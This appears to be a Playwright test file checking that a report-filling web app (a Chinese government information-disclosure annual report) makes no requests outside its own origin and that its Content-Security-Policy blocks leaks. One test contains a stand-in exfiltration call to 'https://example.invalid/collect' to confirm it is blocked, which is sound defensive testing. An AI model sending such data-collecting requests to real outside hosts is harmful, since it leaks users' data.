// Nothing leaves the browser: every request made while a whole report is filled in, exported
// to Word and a .docx is opened goes to the app's own origin (or is data:/blob:), and the
// Content-Security-Policy meta tag is in force without a single violation.
import { expect, test, type BrowserContext, type Page } from '@playwright/test'
import { readdirSync, readFileSync } from 'node:fs'
import { collectPageErrors, fillTablesNoApplications, freshApp, openPage, openReportFile } from './helpers.ts'

interface Violation { directive: string; blocked: string }

/** Every request of the context (pages and service worker) and every CSP violation report. */
async function watch(context: BrowserContext, page: Page) {
  const requests = new Set<string>()
  const fromWorker = new Set<string>()
  const violations: Violation[] = []
  const record = (url: string) => requests.add(url)
  context.on('request', (r) => {
    record(r.url())
    if (r.serviceWorker()) fromWorker.add(r.url())
  })
  page.on('request', (r) => record(r.url()))
  context.on('serviceworker', (worker) => record(worker.url()))
  await context.exposeFunction('reportCspViolation', (v: Violation) => violations.push(v))
  await context.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (e) => {
      const report = (window as unknown as { reportCspViolation(v: Violation): void }).reportCspViolation
      report({ directive: e.effectiveDirective, blocked: e.blockedURI })
    })
  })
  return { requests, fromWorker, violations }
}

/** data:, blob: and the app's own origin are fine; anything else is a leak. */
function foreign(requests: Set<string>, origin: string): string[] {
  return [...requests].filter((url) => !/^(data|blob):/.test(url) && new URL(url).origin !== origin)
}

/** The journey of e2e/fill-report.spec.ts: every section, typed as a user types. */
async function fillWholeReport(page: Page) {
  await page.getByLabel('机关全称', { exact: true }).fill('伊川县白沙镇人民政府')
  await page.getByLabel('报告年度').selectOption('2024')
  await page.getByLabel('成文日期', { exact: true }).fill('2025-01-20')
  await openPage(page, '一 总体情况')
  await page.getByRole('textbox', { name: '（一）主动公开' }).fill('2024年，通过政务公开栏主动公开政府信息75条。')
  await page.getByRole('button', { name: '未收到申请' }).click()
  await page.getByRole('textbox', { name: '（三）政府信息管理' }).fill('严格落实保密审查制度，未制发行政规范性文件。')
  await page.getByRole('textbox', { name: '（四）政府信息公开平台建设' }).fill('维护政务公开栏12处。')
  await page.getByRole('textbox', { name: '（五）监督保障' }).fill('将政务公开纳入年度考核，未发生责任追究情况。')
  await fillTablesNoApplications(page)
  await openPage(page, '五 问题改进')
  await page.getByRole('textbox', { name: '（一）存在问题' }).fill('政务公开栏信息更新不够及时，重点领域信息公开深度不够。')
  await page.getByRole('textbox', { name: '（二）改进情况' }).fill('下一步将明确专人负责公开栏更新，每月检查一次公开内容。')
  await openPage(page, '六 其他事项')
  await page.getByRole('button', { name: '未收取信息处理费' }).click()
  await openPage(page, '检查与导出')
  await expect(page.locator('.page [data-severity="error"]')).toHaveCount(0)
}

test('filling in, exporting Word and opening a .docx make no request outside the app origin', async ({ page, context, baseURL }) => {
  const origin = new URL(baseURL!).origin
  const { requests, fromWorker, violations } = await watch(context, page)
  const errors = collectPageErrors(page)
  await freshApp(page)
  const csp = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content')
  expect(csp).toContain("default-src 'self'")

  await fillWholeReport(page)
  const download = page.waitForEvent('download')
  await page.locator('.page').getByRole('button', { name: '导出 Word' }).click()
  expect((await download).suggestedFilename()).toMatch(/\.docx$/)

  await openReportFile(page, 'src/import/test-fixtures/wrong-total.docx')
  await expect(page.getByLabel('机关全称', { exact: true })).toHaveValue('伊川县白沙镇人民政府')
  // The service worker's precache downloads count too: let it finish.
  await page.evaluate(async () => {
    await navigator.serviceWorker.ready
  })

  // The recording sees the service worker's own fetches (its precache), not only the page's.
  await expect.poll(() => [...fromWorker].some((url) => /export-docx-[\w-]+\.js$/.test(url))).toBe(true)
  expect(requests.size).toBeGreaterThan(fromWorker.size)
  expect(foreign(requests, origin)).toEqual([])
  expect(violations).toEqual([])
  expect(errors).toEqual([])
})

test('the policy blocks a request to another origin before it leaves, and says so', async ({ page, context, baseURL }) => {
  const { requests, violations } = await watch(context, page)
  await freshApp(page)
  const outcome = await page.evaluate(async () => {
    try {
      await fetch('https://example.invalid/collect?report=1')
      return 'sent'
    } catch {
      return 'blocked'
    }
  })
  expect(outcome).toBe('blocked')
  await expect.poll(() => violations).toEqual([{ directive: 'connect-src', blocked: 'https://example.invalid/collect?report=1' }])
  expect(foreign(requests, new URL(baseURL!).origin)).toEqual([])
})

test('the built files reference no other origin', () => {
  // Namespaces inside the docx library (schemas.openxmlformats.org and the like) are strings in
  // XML, never fetched; the HTML and CSS are what a browser would load from.
  const files = ['dist/index.html', ...readdirSync('dist/assets').filter((f) => f.endsWith('.css')).map((f) => `dist/assets/${f}`)]
  for (const file of files) {
    const text = readFileSync(file, 'utf8')
    expect(text, file).not.toMatch(/(src|href)=["']?(https?:)?\/\//i)
    expect(text, file).not.toMatch(/url\(\s*["']?(https?:)?\/\//i)
    expect(text, file).not.toMatch(/@import/i)
  }
})
